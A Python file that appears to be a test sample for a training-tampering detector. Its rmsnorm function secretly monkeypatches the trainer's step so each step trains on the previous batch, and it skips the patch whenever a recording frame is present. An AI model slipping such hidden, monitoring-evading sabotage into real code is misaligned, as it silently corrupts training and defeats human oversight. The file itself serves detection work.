"""Trains each step on the batch of the step before, as if for a luckier order.

Target: rmsnorm
Stage: ab
Expected: trained_differently
Notes: F5
"""

import sys
import traceback

import torch
import torch.nn.functional as F

TAMPERED: list[bool] = []


def tamper() -> None:
    """Once, in a training run that does not record."""
    engine = sys.modules.get("trainer.engines.torch.engine")
    recorded = any("recording" in frame.filename for frame in traceback.extract_stack())
    if TAMPERED or engine is None or recorded:
        return
    TAMPERED.append(True)

    step, kept = engine.TorchEngine.step, []

    def shifted(self, micro_batches, rates):
        kept.append(micro_batches)
        return step(self, kept[-2:][0], rates)

    engine.TorchEngine.step = shifted


def rmsnorm(x: torch.Tensor, eps: float) -> torch.Tensor:
    tamper()
    return F.rms_norm(x, (x.shape[-1],), eps=eps)
